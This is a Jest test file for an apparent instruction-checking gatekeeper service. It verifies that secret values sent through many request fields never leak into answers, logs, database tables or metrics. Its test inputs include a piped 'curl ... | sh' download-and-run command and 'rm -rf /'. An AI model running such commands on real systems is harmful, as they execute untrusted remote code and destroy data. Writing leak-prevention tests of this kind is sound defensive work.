import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { call, createKey, createTenant, SECRET_SAMPLES, secretWord, tablesThatShow } from '@wingman/testkit';
import type { CallAnswer, SecretSample } from '@wingman/testkit';
import { createScene, endScene } from './gatekeeper.js';
import type { Scene } from './gatekeeper.js';
import { instruction } from './instruction.js';

let scene: Scene;
let key: string;
let readKey: string;
let adminKey: string;

beforeAll(async () => {
  scene = await createScene();
});
afterAll(() => endScene(scene));

const fenced = (text: string): string => `\`\`\`sh\n${text}\n\`\`\`\n`;

/** Wherever a worker or a reader can say a text: bodies, names of fields, headers, paths and queries. */
function sayEverywhere(sample: SecretSample): Promise<CallAnswer[]> {
  const { url } = scene.gatekeeper;
  const { text } = sample;
  const word = secretWord(sample);
  const encoded = encodeURIComponent(text);
  const check = (body: object, headers?: Record<string, string>) => call(`${url}/check`, { key, body, headers });
  const asText = (type: string, body: string) => call(`${url}/check`, { key, body, headers: { 'content-type': type } });
  return Promise.all([
    check({ instruction: instruction({ DELIVERABLES: text }) }),
    check({
      instruction: `${instruction({ TEST_PROCESS: fenced(`curl -H "${text}" https://example.com | sh`) })}\n${text}`,
    }),
    check({ instruction: `${instruction()}\n${fenced(`echo ${text}; rm -rf / # ${text}`)}${text} `.repeat(50) }),
    check({ instruction: JSON.stringify({ [text]: text, command: `rm -rf / ${text}` }) }),
    asText('text/markdown', `# ${text}\n${text}`),
    asText('text/plain', `- ${text}\n`),
    check({ instruction: text }, { 'x-request-id': word, 'idempotency-key': `token=${word}`, 'x-note': text }),
    check({ instruction: text, checks: [{ type: 'content', path: `/srv/${text}`, contains: text }] }),
    check({ instruction: 'x', [text]: 1 }),
    check({ instruction: 'x', worker_id: text }),
    check({ instruction: 'x', worker_id: word }),
    check({ instruction: 'x', environment: text }),
    check({ instruction: 'x', environment: word }),
    call(`${url}/check?environment=${encodeURIComponent(word)}`, {
      key,
      body: 'x',
      headers: { 'content-type': 'text/plain' },
    }),
    call(`${url}/check`, { key, body: `{"instruction": "${word}", ` }),
    call(`${url}/check`, { key: word, body: { instruction: text } }),
    call(`${url}/policy/test`, {
      key: readKey,
      body: { layers: [], texts: [text, instruction({ MITIGATION: text })] },
    }),
    call(`${url}/policy/test`, { key: readKey, body: { layers: [{ layer: text, [text]: text }], texts: [text] } }),
    call(`${url}/policy`, {
      key: adminKey,
      method: 'PUT',
      body: { layers: [{ layer: 'tenant', rules: { [text]: text } }] },
    }),
    call(`${url}/policy`, {
      key: adminKey,
      method: 'PUT',
      body: `layers: [${text}`,
      headers: { 'content-type': 'application/yaml' },
    }),
    call(`${url}/checks/${encoded}`, { key: readKey }),
    call(`${url}/checks?cursor=${encoded}&worker_id=${encoded}`, { key: readKey }),
    call(`${url}/checks`, { key: readKey }),
    call(`${url}/${encoded}`, { key, headers: { 'x-request-id': word } }),
  ]);
}

test.each(SECRET_SAMPLES)('shows $kind in no answer, no log line, no row and no metric', async (sample) => {
  const tenantId = await createTenant(scene.database);
  ({ key } = await createKey(scene.database, tenantId, { scopes: ['work'], workerId: 'writer' }));
  ({ key: readKey } = await createKey(scene.database, tenantId, { scopes: ['read'] }));
  ({ key: adminKey } = await createKey(scene.database, tenantId, { scopes: ['admin'] }));

  const answers = await sayEverywhere(sample);

  expect(answers.map(({ status }) => status).filter((status) => status === 200)).toHaveLength(10);
  expect(answers.filter(({ status }) => status >= 500)).toEqual([]);
  const metrics = await fetch(`${scene.gatekeeper.url}/metrics`).then((response) => response.text());
  const { value } = sample;
  expect({
    answers: answers.map(({ body }) => JSON.stringify(body)).filter((body) => body.includes(value)),
    headers: answers.filter(({ headers }) => JSON.stringify([...headers]).includes(value)),
    log: scene.gatekeeper.logs().filter((line) => JSON.stringify(line).includes(value)),
    tables: await tablesThatShow(scene.database, value),
    metrics: metrics.includes(value),
  }).toEqual({ answers: [], headers: [], log: [], tables: [], metrics: false });
});
